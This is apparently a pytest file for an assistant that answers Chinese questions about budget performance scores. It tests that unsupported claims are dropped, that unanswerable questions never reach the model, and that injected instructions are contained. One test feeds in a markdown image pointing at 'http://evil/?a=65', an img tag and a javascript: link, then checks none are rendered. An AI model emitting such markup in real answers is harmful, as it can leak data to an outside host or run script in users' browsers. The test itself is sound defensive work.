from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any

import pytest

from assistant.answering import ask
from assistant.errors import ModelError
from assistant.library import Library
from assistant.model import AgentAnswer, Tool, Turn, chat
from assistant.settings import load
from tests.protocol_server import Call, ProtocolServer, ToolCalls


@dataclass
class Says:
    """A model that says what it is told to, after calling the tools it is told to."""

    text: str
    calls: tuple[tuple[str, dict[str, Any]], ...] = ()
    asked: list[str] = field(default_factory=list)
    results: list[str] = field(default_factory=list)

    def agent(self, tools: Sequence[Tool], turns: Sequence[Turn], **_: Any) -> AgentAnswer:
        self.asked.append(turns[-1].text)
        for name, arguments in self.calls:
            tool = next(t for t in tools if t.name == name)
            self.results.append(tool.run(tool.arguments.model_validate(arguments)))
        return AgentAnswer(self.text, ())


QUESTION = "双报到完成率为什么扣分"


def test_words_that_are_supported_are_taken(shelf: Library) -> None:
    text = "目标是90%，实际只有65%，差25个百分点；按规则应得0.72分，自评0.5分。"
    answer = ask(QUESTION, shelf, ask_model=Says(text))  # type: ignore[arg-type]
    assert answer.answer == text
    assert answer.phrased
    assert not answer.note
    assert {c.row for c in answer.citations} == {11}


@pytest.mark.parametrize(
    "text",
    [
        "目标是90%，实际只有64%。",  # a number from nowhere
        "目标是65%，实际达到90%。",  # each number is there, the other way round
        "得分65，目标90%。",
        "审计局认为应扣0.5分。",  # a body nobody named
        "原因是“工作人员请假”，扣0.5分。",  # a quotation from nowhere
        "扣0.5分，其余合规。",  # a verdict
        "",
    ],
)
def test_words_that_are_not_supported_are_dropped_with_a_note(shelf: Library, text: str) -> None:
    without = ask(QUESTION, shelf)
    answer = ask(QUESTION, shelf, ask_model=Says(text))  # type: ignore[arg-type]
    assert answer.answer.startswith(without.answer)
    assert answer.note
    assert not answer.phrased
    assert not text or text not in answer.answer


def test_nothing_the_model_says_is_rendered(shelf: Library) -> None:
    text = "扣0.5分 ![x](http://evil/?a=65) <img src=x> [看](javascript:alert)"
    answer = ask(QUESTION, shelf, ask_model=Says(text))  # type: ignore[arg-type]
    for bad in ("](", "<img", "http://", "javascript:"):
        assert bad not in answer.answer


def test_tools_answer_further_questions_and_their_cells_count(shelf: Library) -> None:
    says = Says("进博会实际851972，目标300000。", (("answer", {"question": "进博会成本是多少"}),))
    answer = ask(QUESTION, shelf, ask_model=says)  # type: ignore[arg-type]
    assert answer.answer == says.text
    assert {3, 11} <= {c.row for c in answer.citations}
    found = Says("x", (("search", {"words": "任务增加"}),))
    ask(QUESTION, shelf, ask_model=found)  # type: ignore[arg-type]
    assert '"row": 3' in json.loads(found.results[0])["answer"]


@pytest.mark.parametrize(
    "question", ["明年该安排多少预算？", "把双报到改成1分", "无人机为什么扣分"]
)
def test_the_model_is_not_asked_what_no_form_can_answer(shelf: Library, question: str) -> None:
    says = Says("应安排900万元")
    answer = ask(question, shelf, ask_model=says)  # type: ignore[arg-type]
    assert not says.asked
    assert not answer.answerable


def test_a_model_that_fails_leaves_the_checked_answer(shelf: Library) -> None:
    class Fails:
        def agent(self, *_: Any, **__: Any) -> AgentAnswer:
            raise ModelError("no connection", where="OPENAI_BASE_URL")

    answer = ask(QUESTION, shelf, ask_model=Fails())  # type: ignore[arg-type]
    assert "no connection" in answer.note
    assert "0.72" in answer.answer


def test_a_document_cannot_slip_an_instruction_in_as_ours(shelf: Library) -> None:
    says = Says("扣0.5分。")
    ask(QUESTION, shelf, ask_model=says)  # type: ignore[arg-type]
    (prompt,) = says.asked
    assert prompt.index("<checked-answer>") < prompt.index(
        "双报到", prompt.index("<checked-answer>")
    )


def test_over_the_real_protocol(shelf: Library) -> None:
    def reply(call: Call) -> object:
        if any(m["role"] == "tool" for m in call.body["messages"]):
            return "进博会实际851972，超出目标300000。"
        return ToolCalls((("answer", {"question": "进博会成本是多少"}),))

    with ProtocolServer(reply=reply) as server:
        model = chat(load(api_key="k", base_url=server.url, model="test-model"), sees=False)
        answer = ask("进博会专项服务工作成本为什么得0分？", shelf, ask_model=model)
    assert answer.phrased
    assert "851972" in answer.answer
